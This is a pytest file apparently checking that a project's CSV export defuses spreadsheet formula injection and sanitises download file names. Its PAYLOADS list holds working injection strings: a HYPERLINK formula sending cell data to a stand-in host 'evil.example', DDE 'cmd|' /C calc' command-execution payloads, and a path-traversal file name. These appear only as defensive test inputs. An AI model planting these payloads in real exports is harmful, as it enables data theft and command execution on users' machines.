"""CSV exports cannot carry spreadsheet formulas (OWASP "CSV Injection").

Bad inputs tried: cells starting with each formula trigger (=, +, -, @, tab, CR), the payloads
from the probe (=HYPERLINK, @SUM, +cmd|...), embedded quotes, commas and newlines, and a file name
with quotes and a path.
"""

import csv
import io

import pytest

from mica.core.csv_export import csv_response, csv_text, spreadsheet_safe

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_prefixed_and_kept_whole(payload):
    rows = read_back(csv_text(["case_id"], [[payload]]))
    assert rows[1] == ["'" + payload]


def test_ordinary_cells_and_numbers_are_unchanged():
    rows = read_back(csv_text(["case_id", "score", "note"], [["case-001", -0.25, 'a "quoted", multi\nline'],
                                                            ["x=1", 3, None]]))
    assert rows == [["case_id", "score", "note"], ["case-001", "-0.25", 'a "quoted", multi\nline'],
                    ["x=1", "3", ""]]


def test_no_exported_cell_starts_with_a_trigger():
    """Only a plain number ("-1", "+2.5e3": a spreadsheet reads it as that number) keeps its sign."""
    text = csv_text(["=header"], [[payload] for payload in PAYLOADS] + [["-1+1"], ["@a"], ["-1e"]])
    for row in read_back(text):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert read_back(csv_text(["value"], [["-1"], ["+2.5e3"], ["-.5"]]))[1:] == [["-1"], ["+2.5e3"], ["-.5"]]


def test_spreadsheet_safe_leaves_booleans_as_text():
    assert spreadsheet_safe(True) == "True"
    assert spreadsheet_safe(-5) == -5


def test_the_download_has_a_safe_name_and_type():
    response = csv_response('../"evil".csv', ["case_id"], [["=1+1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="..__evil_.csv"'
    assert read_back(response.content.decode())[1] == ["'=1+1"]
